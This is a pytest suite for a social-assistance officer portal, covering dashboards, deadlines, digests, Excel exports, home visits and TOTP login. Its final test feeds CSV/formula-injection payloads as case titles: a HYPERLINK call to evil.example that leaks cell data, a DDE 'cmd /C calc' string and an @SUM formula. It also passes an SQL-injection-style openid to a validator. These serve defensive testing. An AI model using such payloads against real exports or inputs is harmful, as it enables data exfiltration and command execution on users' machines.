"""The officer's desk: dashboard counts that are the queue's counts, region scope (an empty region sees
nothing), due cues in working days, the daily digest to each officer's chosen channel and the inbox,
formatted Excel exports, the home visit with photos and signatures, the report action panel, TOTP
errors and the lock-out time."""

from __future__ import annotations

import io
import json
import re
from datetime import date, datetime, timedelta
from pathlib import Path

import pyotp
import pytest
from openpyxl import load_workbook
from PIL import Image
from sqlalchemy import select

from core import clock, workdays
from core.accounts.models import Officer
from core.actor import SYSTEM, Actor
from core.casework import services as casework
from core.casework.models import Case, CaseStep, StepFile
from core.database import commit, db
from core.desk import dashboard, due, queues
from core.notifications.models import OutboxMessage, PortalNotification
from core.reports.models import Report
from tests.helpers import (
    bound_citizen,
    csrf_token,
    draft_body,
    home_visit_files,
    id_number,
    jpeg_bytes,
    make_officer,
    pdf_bytes,
    portal_login,
    signature_png,
    submitted_application,
)

MINHE, LIDU, COUNTY = "360124100", "360124101", "360124"
OPENID = "oAbC-officer_12345678"


def _officer(app, username, region=MINHE, role="township_officer"):
    secret = make_officer(app, username, role, region)
    client = app.test_client()
    assert portal_login(client, username, secret).status_code == 302
    return client


def _officer_id(app, username) -> int:
    with app.app_context():
        value = db.session.scalar(select(Officer.id).where(Officer.username == username))
        db.session.remove()
        return value


def _cases(app, township: str, *, overdue: int = 0, soon: int = 0, later: int = 0, closed: int = 0) -> None:
    """Cases with a known deadline state (the nearest deadline set directly)."""
    with app.app_context():
        today = clock.local_today()
        plan = (
            [today - timedelta(days=3)] * overdue
            + [workdays.add_working_days(today, 1)] * soon
            + [workdays.add_working_days(today, 10)] * later
        )
        for n, next_due in enumerate(plan):
            case = casework.open_case(
                SYSTEM, kind="demo", township_code=township, title=f"演示{n}", due_in_working_days=3
            )
            case.next_due = next_due
        for n in range(closed):
            case = casework.open_case(
                SYSTEM, kind="demo", township_code=township, title=f"已办{n}", due_in_working_days=3
            )
            casework.set_stage(case, "closed", None)
        commit()
        db.session.remove()


def _total(page: str) -> int:
    match = re.search(r"共 (\d+) 件", page)
    assert match, "no queue total on the page"
    return int(match.group(1))


# --- one query source: dashboard == queue ---------------------------------------------------------


def test_county_table_counts_are_the_queue_counts(client, app):
    _cases(app, MINHE, overdue=2, soon=1, later=3, closed=2)
    _cases(app, LIDU, overdue=1, later=1)
    _cases(app, "360121100", overdue=4)  # another county: never in this county's table
    county = _officer(app, "desk_county", region=COUNTY, role="county_officer")
    data = county.get("/portal/dashboard/data.json").get_json()
    rows = {r["township_code"]: r for r in data["townships"]}
    assert "360121100" not in rows
    assert (rows[MINHE]["open"], rows[MINHE]["overdue"]) == (6, 2)
    assert (rows[LIDU]["open"], rows[LIDU]["overdue"]) == (2, 1)
    for code, row in rows.items():  # every township of the county, each cell equal to its queue's total
        for bucket, key in (("all", "open"), ("overdue", "overdue")):
            page = county.get(f"/portal/queue?bucket={bucket}&township={code}").get_data(as_text=True)
            assert _total(page) == row[key], (code, bucket)
    html = county.get("/portal/dashboard").get_data(as_text=True)
    assert f'href="/portal/queue?bucket=overdue&amp;township={MINHE}"' in html
    assert data["open_total"] == _total(county.get("/portal/queue?bucket=all").get_data(as_text=True)) == 8
    queue_page = county.get("/portal/queue").get_data(as_text=True)
    for stage in data["open_by_stage"]:  # the chart's bars are the queue's tab counts
        assert f'data-testid="bucket-{stage["stage"]}">{stage["label"]} <b>{stage["count"]}</b>' in queue_page
    # the tabs of the queue and the dashboard's figures come from the same statements
    with app.app_context():
        actor = Actor("officer", 1, ("county_officer",), COUNTY)
        assert queues.counts(actor)["overdue"] == 3 == sum(r["overdue"] for r in rows.values())
        assert queues.count_by_township(actor, bucket="due_soon") == {MINHE: 1}
        db.session.remove()


def test_township_first_screen_shows_overdue_due_soon_and_new_today(client, app, monkeypatch):
    monkeypatch.setitem(app.config, "PORTAL_IDLE_TIMEOUT_MINUTES", 60 * 24 * 30)
    monkeypatch.setitem(app.config, "PORTAL_SESSION_ABSOLUTE_HOURS", 24 * 30)
    _cases(app, MINHE, overdue=2, soon=1, later=1)
    officer = _officer(app, "desk_town")
    me = _officer_id(app, "desk_town")
    with app.app_context():
        case = db.session.scalar(select(Case).where(Case.next_due < clock.local_today()).limit(1))
        case.assignee_officer_id = me
        commit()
        db.session.remove()
    queue = officer.get("/portal/").get_data(as_text=True)  # the first screen
    assert re.search(r'data-testid="desk-overdue-count">2<', queue)
    assert re.search(r'data-testid="desk-due_soon-count">1<', queue)
    assert re.search(r'data-testid="desk-new_today-count">4<', queue)
    assert "其中分配给我 1 件" in queue
    for bucket, n in (("overdue", 2), ("due_soon", 1), ("new_today", 4)):
        assert _total(officer.get(f"/portal/queue?bucket={bucket}").get_data(as_text=True)) == n
    assert _total(officer.get(f"/portal/queue?bucket=overdue&assignee={me}").get_data(as_text=True)) == 1
    clock.set_offset(timedelta(days=1))
    assert re.search(r'data-testid="desk-new_today-count">0<', officer.get("/portal/").get_data(as_text=True))


def test_an_officer_without_region_sees_nothing(app, client):
    _cases(app, MINHE, overdue=1)
    reporter = bound_citizen(client, "13900091000", "李网格", id_number(date(1985, 9, 3), 52))
    assert (
        client.post(
            "/api/v1/reports", headers=reporter, json={"category": "elderly_alone", "township_code": MINHE}
        ).status_code
        == 201
    )
    clock.set_offset(timedelta(days=10))  # the report is due: it would count if the scope leaked
    with app.app_context():
        for region in ("", None):
            nobody = Actor("officer", 99, ("county_officer",), region)
            data = dashboard.summary(nobody)
            assert data["reports"] == [] and data["townships"] == []
            assert sum(r["count"] for r in data["open_by_stage"]) == 0
            assert data["desk"]["overdue"]["all"] == 0 and data["decisions"]["decided"] == 0
        db.session.remove()


def test_reports_not_yet_due_are_not_counted_as_failures(app, client):
    reporter = bound_citizen(client, "13900091001", "李网格", id_number(date(1985, 9, 3), 52))

    def report() -> int:
        resp = client.post(
            "/api/v1/reports", headers=reporter, json={"category": "elderly_alone", "township_code": MINHE}
        )
        assert resp.status_code == 201, resp.get_json()
        return resp.get_json()["id"]

    first, late, pending = report(), report(), report()
    with app.app_context():
        today = clock.local_today()
        rows = {r.id: r for r in db.session.scalars(select(Report))}
        rows[first].first_contact_due, rows[first].contacted_at = today, clock.utcnow()  # answered in time
        rows[late].first_contact_due = today - timedelta(days=2)  # due, never answered
        rows[pending].first_contact_due = today + timedelta(days=2)  # not due yet: not counted
        commit()
        actor = Actor("officer", 1, ("county_officer",), COUNTY)
        (row,) = dashboard.reports_first_contact(actor)
        assert (row["reports"], row["answered_in_time"], row["percent"]) == (2, 1, 50.0)
        table = {r["township_code"]: r for r in dashboard.by_township(actor)}
        assert table[MINHE]["reports_due"] == 2 and table[MINHE]["reports_on_time_percent"] == 50.0
        db.session.remove()


def test_empty_dashboard_says_why_and_shows_data_tables(app):
    county = _officer(app, "desk_empty", region=COUNTY, role="county_officer")
    html = county.get("/portal/dashboard").get_data(as_text=True)
    assert 'data-testid="chart-stage-empty">辖区内当前没有在办案件' in html
    assert 'data-testid="chart-trend-empty">近12个月没有办结的救助申请' in html
    assert 'data-testid="chart-reports-empty">没有已到首次联系期限的报告' in html
    assert html.count('<table class="data"') == 4  # the township table and one beside each chart


# --- due cues ----------------------------------------------------------------------------------------


def test_due_cue_in_working_days():
    monday = date(2026, 11, 23)
    assert due.cue(monday, monday).text == "今日到期" and due.cue(monday, monday).state == "soon"
    wednesday = due.cue(date(2026, 11, 25), monday)
    assert (wednesday.state, wednesday.remaining, wednesday.label) == ("soon", 2, "即将到期")
    assert due.cue(date(2026, 11, 26), monday).state == "ok"  # three working days
    # across a weekend: Friday to the next Tuesday is two working days
    assert due.cue(date(2026, 12, 1), date(2026, 11, 27)).remaining == 2
    late = due.cue(date(2026, 11, 19), monday)
    assert (late.state, late.text) == ("overdue", "已超期2个工作日")
    # National Day 2026 (1-7 October) does not count
    assert due.cue(date(2026, 10, 9), date(2026, 9, 30)).remaining == 2


def test_queue_and_application_show_remaining_working_days(client, app):
    _cases(app, MINHE, overdue=1, soon=1, later=1)
    officer = _officer(app, "desk_cues")
    page = officer.get("/portal/queue").get_data(as_text=True)
    assert 'data-state="overdue"' in page and 'data-state="soon"' in page and 'data-state="ok"' in page
    assert "即将到期 · 剩余1个工作日" in page and "剩余10个工作日" in page
    zhang = ("张建国", id_number(date(1962, 4, 18), 11))
    submitted = submitted_application(client, bound_citizen(client, "13900091002", *zhang), draft_body(*zhang))
    url = f"/portal/applications/{submitted['id']}"
    before = officer.get(url).get_data(as_text=True)
    assert "受理期限" in before and 'data-testid="accept-deadline"' in before and "剩余" in before
    resp = officer.post(f"{url}/accept", data={"csrf_token": csrf_token(before)})
    assert resp.status_code == 302
    after = officer.get(url).get_data(as_text=True)
    assert "受理期限" not in after and 'data-testid="accept-deadline"' not in after
    assert 'data-testid="statutory-deadline"' in after and 'data-testid="next-deadline"' in after
    assert re.search(r'data-testid="step-due-home_visit"><span class="due due-\w+"', after)


# --- digest to the chosen channel, notification centre ------------------------------------------------


def _preference(officer, **form):
    page = officer.get("/portal/account/notifications").get_data(as_text=True)
    return officer.post("/portal/account/notifications", data={"csrf_token": csrf_token(page), **form})


def _run_deadlines(app):
    from workers.tasks.deadlines import check_deadlines

    with app.app_context():
        result = check_deadlines.apply().get()
        db.session.remove()
        return result


def test_digest_goes_to_the_portal_inbox_by_default(app):
    _cases(app, MINHE, overdue=1, soon=2, later=1)
    officer = _officer(app, "desk_inbox")
    other = _officer(app, "desk_inbox_other", region=LIDU)
    me = _officer_id(app, "desk_inbox")
    assert _run_deadlines(app)["digests"] == 1  # 李渡镇 has no cases: no message
    with app.app_context():
        message = db.session.scalar(select(OutboxMessage).where(OutboxMessage.template == "daily_digest"))
        assert (message.channel, message.recipient, message.status) == ("portal", f"officer:{me}", "sent")
        note = db.session.scalar(select(PortalNotification))
        assert note.officer_id == me and note.outbox_message_id == message.id
        assert "在办4件，其中已超期1件，2个工作日内到期2件" in note.body
        note_id = note.id
        db.session.remove()
    page = officer.get("/portal/queue").get_data(as_text=True)
    assert re.search(r'data-testid="unread-count"[^>]*>1<', page)
    assert "每日待办提醒" in officer.get("/portal/notifications").get_data(as_text=True)
    # another officer can neither see nor mark it
    assert 'data-testid="notifications-empty"' in other.get("/portal/notifications").get_data(as_text=True)
    token = csrf_token(other.get("/portal/notifications").get_data(as_text=True))
    assert other.post(f"/portal/notifications/{note_id}/read", data={"csrf_token": token}).status_code == 404
    token = csrf_token(officer.get("/portal/notifications").get_data(as_text=True))
    opened = officer.post(f"/portal/notifications/{note_id}/read", data={"csrf_token": token})
    assert opened.status_code == 303 and opened.headers["Location"].endswith("/portal/queue?bucket=overdue")
    assert 'data-testid="unread-count"' not in officer.get("/portal/queue").get_data(as_text=True)
    assert _run_deadlines(app)["digests"] == 0  # once a day
    with app.app_context():
        assert db.session.query(PortalNotification).count() == 1
        db.session.remove()


def test_digest_goes_by_sms_when_the_officer_chooses_it(app):
    _cases(app, MINHE, overdue=1)
    officer = _officer(app, "desk_sms")
    refused = _preference(officer, channel="sms", phone="")
    assert refused.status_code == 422 and "选择短信接收时请填写手机号码" in refused.get_data(as_text=True)
    bad = _preference(officer, channel="sms", phone="12345")
    assert bad.status_code == 422 and "手机号" in bad.get_data(as_text=True)
    assert _preference(officer, channel="pigeon", phone="").status_code == 422
    assert _preference(officer, channel="sms", phone="13912345678").status_code == 303
    _run_deadlines(app)
    with app.app_context():
        message = db.session.scalar(select(OutboxMessage).where(OutboxMessage.template == "daily_digest"))
        assert (message.channel, message.recipient, message.status) == ("sms", "13912345678", "sent")
        assert message.payload["overdue"] == 1 and message.payload["open"] == 1
        assert db.session.query(PortalNotification).count() == 0
        db.session.remove()
    sent = [json.loads(line) for line in (Path(app.config["STORAGE_DIR"]) / "outbox.jsonl").read_text().splitlines()]
    assert any(m["to"] == "13912345678" and m["template"] == "daily_digest" for m in sent)


def test_digest_by_wechat_needs_a_bound_openid(app, monkeypatch):
    _cases(app, MINHE, soon=1)
    officer = _officer(app, "desk_wechat")
    refused = _preference(officer, channel="wechat", phone="")
    assert refused.status_code == 422 and "尚未绑定微信" in refused.get_data(as_text=True)
    runner = app.test_cli_runner()
    bad = runner.invoke(args=["users", "bind-wechat", "--username", "desk_wechat", "--openid", "x' OR 1=1"])
    assert bad.exit_code != 0 and "openid格式不正确" in bad.output
    bound = runner.invoke(args=["users", "bind-wechat", "--username", "desk_wechat", "--openid", OPENID])
    assert bound.exit_code == 0, bound.output
    assert _preference(officer, channel="wechat", phone="").status_code == 303
    sent: list[tuple] = []

    class FakeWechat:
        def send(self, recipient, template, payload, *, request_id=None):
            sent.append((recipient, template, payload))
            return "msg-1"

    from core.notifications import services as outbox

    monkeypatch.setattr(outbox, "_channel_factory", lambda channel: FakeWechat() if channel == "wechat" else None)
    _run_deadlines(app)
    ((recipient, template, payload),) = sent
    assert (recipient, template) == (OPENID, "daily_digest")
    assert payload["data"]["number3"] == {"value": 1} and payload["data"]["thing1"]["value"] == "辖区待办提醒"
    assert runner.invoke(args=["users", "bind-wechat", "--username", "desk_wechat"]).exit_code == 0
    with app.app_context():
        officer_row = db.session.scalar(select(Officer).where(Officer.username == "desk_wechat"))
        assert (officer_row.digest_channel, officer_row.wechat_openid) == ("inbox", None)
        db.session.remove()


# --- Excel ------------------------------------------------------------------------------------------


def test_queue_export_is_formatted(client, app):
    _cases(app, MINHE, overdue=1, later=1)
    officer = _officer(app, "desk_xlsx")
    resp = officer.get("/portal/queue?format=xlsx&bucket=all")
    assert resp.status_code == 200
    disposition = resp.headers["Content-Disposition"]
    assert "filename*=UTF-8''%E5%BE%85%E5%8A%9E%E9%98%9F%E5%88%97" in disposition  # 待办队列-全部在办-YYYYMMDD.xlsx
    book = load_workbook(io.BytesIO(resp.data))
    assert book.sheetnames == ["全部在办"]
    sheet = book["全部在办"]
    title = sheet["A1"].value
    assert title.startswith("民和镇 待办队列（全部在办）") and "导出时间：" in title
    header = [c.value for c in sheet[2]]
    assert header[:6] == ["编号", "类型", "事项", "乡镇（街道）", "环节", "最近期限"]
    assert all(c.font.bold for c in sheet[2])
    assert sheet.freeze_panes == "A3" and sheet.auto_filter.ref == "A2:K4"
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert len(rows) == 2 and {r[1] for r in rows} == {"演示案件"} and {r[3] for r in rows} == {"民和镇"}
    assert not any("demo" in str(v) for r in rows for v in r)
    due_cell, created_cell = sheet.cell(row=3, column=6), sheet.cell(row=3, column=11)
    assert isinstance(due_cell.value, datetime) and due_cell.number_format == "yyyy-mm-dd"
    assert isinstance(created_cell.value, datetime) and created_cell.number_format == "yyyy-mm-dd hh:mm"
    assert {r[7] for r in rows} == {"已超期", None} and isinstance(rows[0][6], int)
    for letter in "ABCDEFGHIJK":
        assert sheet.column_dimensions[letter].width >= 8
    assert sheet.column_dimensions["A"].width >= 20  # JZYYYYMMDDXXXXXXXX


def test_dashboard_export_is_formatted(app):
    _cases(app, MINHE, overdue=1)
    county = _officer(app, "desk_xlsx_county", region=COUNTY, role="county_officer")
    resp = county.get("/portal/dashboard?format=xlsx")
    book = load_workbook(io.BytesIO(resp.data))
    assert book.sheetnames == ["分乡镇情况", "在办案件", "办结用时", "报告首次联系"]
    sheet = book["分乡镇情况"]
    assert sheet["A1"].value.startswith("进贤县 社会救助经办数据看板")
    assert [c.value for c in sheet[2]][:3] == ["乡镇（街道）", "在办件数", "已超期件数"]
    minhe = next(r for r in sheet.iter_rows(min_row=3, values_only=True) if r[0] == "民和镇")
    assert minhe[1] == 1 and minhe[2] == 1
    assert sheet.freeze_panes == "A3" and sheet.auto_filter.ref.startswith("A2:H")


# --- home visit: photos and signatures, uploaded ---------------------------------------------------


def _accepted_with_home_visit(client, app, officer, phone="13900092000"):
    person = ("赵桂兰", id_number(date(1950, 2, 3), 44))
    submitted = submitted_application(client, bound_citizen(client, phone, *person), draft_body(*person))
    url = f"/portal/applications/{submitted['id']}"
    assert officer.post(f"{url}/accept", data={"csrf_token": csrf_token(officer.get(url).get_data(as_text=True))})
    with app.app_context():
        case = db.session.scalar(select(Case).where(Case.subject_id == submitted["id"], Case.kind == "application"))
        step = db.session.scalar(select(CaseStep).where(CaseStep.case_id == case.id, CaseStep.step == "home_visit"))
        db.session.remove()
    return submitted["id"], step


def _home_visit(officer, application_id, step, **files):
    url = f"/portal/applications/{application_id}"
    token = csrf_token(officer.get(url).get_data(as_text=True))
    data = {"csrf_token": token, "version": step.version, "investigator_1": "王一", "investigator_2": "李二"}
    data["findings"] = "住房简陋"
    return officer.post(
        f"{url}/steps/{step.id}/investigate", data={**data, **files}, content_type="multipart/form-data"
    )


def test_home_visit_stores_photos_without_exif_and_signatures(client, app):
    officer = _officer(app, "desk_visit")
    app_id, step = _accepted_with_home_visit(client, app, officer)
    page = officer.get(f"/portal/applications/{app_id}").get_data(as_text=True)
    assert 'accept="image/*" capture="environment"' in page and 'class="signature-pad"' in page
    assert 'name="signed"' not in page  # no checkbox stands in for a signature
    resp = _home_visit(officer, app_id, step, **home_visit_files(photos=2, with_gps=True))
    assert resp.status_code == 302, resp.get_data(as_text=True)
    with app.app_context():
        files = db.session.scalars(select(StepFile).where(StepFile.step_id == step.id)).all()
        assert sorted(f.kind for f in files) == [
            "photo",
            "photo",
            "signature_applicant",
            "signature_investigator_1",
            "signature_investigator_2",
        ]
        from core.files import storage

        for f in files:
            data = storage.open_path(f.storage_key).read_bytes()
            image = Image.open(io.BytesIO(data))
            assert not image.getexif(), f.kind  # EXIF (GPS, camera) removed
            assert b"PhoneMaker" not in data
        photo_id = next(f.id for f in files if f.kind == "photo")
        assert db.session.get(CaseStep, step.id).status == "done"
        db.session.remove()
    served = officer.get(f"/portal/applications/{app_id}/step-files/{photo_id}")
    assert served.status_code == 200 and served.headers["Content-Disposition"].startswith("attachment")
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert 'data-testid="step-files-home_visit"' in officer.get(f"/portal/applications/{app_id}").get_data(as_text=True)
    # another township cannot fetch it, nor through another application's URL
    other = _officer(app, "desk_visit_other", region=LIDU)
    assert other.get(f"/portal/applications/{app_id}/step-files/{photo_id}").status_code == 404
    assert officer.get(f"/portal/applications/{app_id + 1000}/step-files/{photo_id}").status_code == 404


@pytest.mark.parametrize(
    ("change", "field", "message"),
    [
        ({"photos": []}, "photos", "请拍摄或上传至少一张入户照片"),
        ({"photos": [(io.BytesIO(pdf_bytes()), "a.pdf")]}, "photos", "只能上传JPG、PNG格式的文件"),
        ({"signature_applicant": (io.BytesIO(signature_png(blank=True)), "s.png")}, "signature_applicant", "空白"),
        ({"signature_investigator_1": (io.BytesIO(jpeg_bytes()), "s.png")}, "signature_investigator_1", "PNG"),
        ({"signature_investigator_2": (io.BytesIO(b""), "s.png")}, "signature_investigator_2", "请在签名框内签字"),
    ],
)
def test_home_visit_refuses_missing_or_bad_files(client, app, change, field, message):
    officer = _officer(app, f"desk_bad_{field}")
    app_id, step = _accepted_with_home_visit(client, app, officer)
    files = {**home_visit_files(), **change}
    resp = _home_visit(officer, app_id, step, **files)
    assert resp.status_code == 422 and message in resp.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(StepFile.id).where(StepFile.step_id == step.id)) is None
        assert db.session.get(CaseStep, step.id).status != "done"
        db.session.remove()


def test_home_visit_refuses_more_than_nine_photos(client, app):
    officer = _officer(app, "desk_many")
    app_id, step = _accepted_with_home_visit(client, app, officer)
    resp = _home_visit(officer, app_id, step, **home_visit_files(photos=10, with_gps=False))
    assert resp.status_code == 422 and "入户照片最多9张" in resp.get_data(as_text=True)


# --- report page: one panel, no risky default -------------------------------------------------------


def test_report_panel_shows_only_next_actions_without_default_outcome(client, app):
    reporter = bound_citizen(client, "13900093000", "李网格", id_number(date(1985, 9, 3), 52))
    report = client.post(
        "/api/v1/reports", headers=reporter, json={"category": "elderly_alone", "township_code": MINHE}
    ).get_json()
    officer = _officer(app, "desk_report")
    url = f"/portal/reports/{report['id']}"
    page = officer.get(url).get_data(as_text=True)
    assert page.count('data-testid="report-actions"') == 1
    assert 'data-testid="mark-contacted"' in page and 'data-testid="refer-needs-person"' in page
    assert 'data-testid="refer"' not in page  # no referral before the person is known
    assert '<option value="" selected disabled>请选择办结结果</option>' in page
    assert not re.search(r'<option value="already_assisted"[^>]*selected', page)
    refused = officer.post(f"{url}/close", data={"csrf_token": csrf_token(page), "note": "x"})
    assert refused.status_code == 422 and '<p class="field-error" id="outcome-error">请选择处理结果</p>' in (
        refused.get_data(as_text=True)
    )
    assert officer.post(f"{url}/step", data={"csrf_token": csrf_token(page), "step": "contacted"}).status_code == 302
    page = officer.get(url).get_data(as_text=True)
    assert 'data-testid="mark-contacted"' not in page and 'data-testid="mark-visited"' in page
    note_required = officer.post(f"{url}/close", data={"csrf_token": csrf_token(page), "outcome": "not_eligible"})
    body = note_required.get_data(as_text=True)
    assert note_required.status_code == 422 and "请填写不符合条件的原因" in body
    assert '<option value="not_eligible" selected>' in body  # the choice is kept, not reset to a default
    closed = officer.post(
        f"{url}/close", data={"csrf_token": csrf_token(page), "outcome": "unreachable", "note": "多次无人接听"}
    )
    assert closed.status_code == 302
    assert 'data-testid="report-actions"' not in officer.get(url).get_data(as_text=True)


# --- log-in: TOTP field cleared with the reason; lock-out says until when -------------------------


def test_wrong_totp_is_cleared_and_lockout_says_until_when(app, monkeypatch):
    monkeypatch.setitem(app.config, "PORTAL_MAX_FAILED_LOGINS", 2)
    monkeypatch.setitem(app.config, "PORTAL_LOCKOUT_MINUTES", 15)
    secret = make_officer(app, "desk_totp", "township_officer", MINHE)
    browser = app.test_client()
    page = browser.get("/portal/login").get_data(as_text=True)
    browser.post(
        "/portal/login",
        data={"username": "desk_totp", "password": "Correct-Horse-Battery-9", "csrf_token": csrf_token(page)},
    )
    page = browser.get("/portal/login/totp").get_data(as_text=True)
    wrong = str((int(pyotp.TOTP(secret).now()) + 1) % 1_000_000).zfill(6)
    resp = browser.post("/portal/login/totp", data={"code": wrong, "csrf_token": csrf_token(page)})
    html = resp.get_data(as_text=True)
    assert resp.status_code == 401
    assert re.search(r'<input[^>]*id="code"[^>]*value=""', html) and wrong not in html
    assert 'data-testid="code-error">动态验证码错误或已使用</p>' in html
    resp = browser.post("/portal/login/totp", data={"code": wrong, "csrf_token": csrf_token(html)})
    html = resp.get_data(as_text=True)
    until = clock.to_local(clock.utcnow() + timedelta(minutes=15))
    assert "账号已暂时锁定，请于" in html and "（北京时间）后再试" in html
    assert f"{until:%H:%M}" in html or f"{until - timedelta(minutes=1):%H:%M}" in html


def test_export_never_turns_citizen_text_into_a_formula(client, app):
    from tests.helpers import citizen_headers

    headers = citizen_headers(client, "13900094000")
    for title in ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)"):
        resp = client.post("/api/v1/demo/cases", headers=headers, json={"township_code": MINHE, "title": title})
        assert resp.status_code == 201, resp.get_json()
    officer = _officer(app, "desk_formula")
    book = load_workbook(io.BytesIO(officer.get("/portal/queue?format=xlsx").data))
    cells = [c for row in book.active.iter_rows(min_row=3) for c in row if c.column == 3]
    assert len(cells) == 3
    for cell in cells:
        assert cell.data_type == "s" and cell.value.startswith("'")
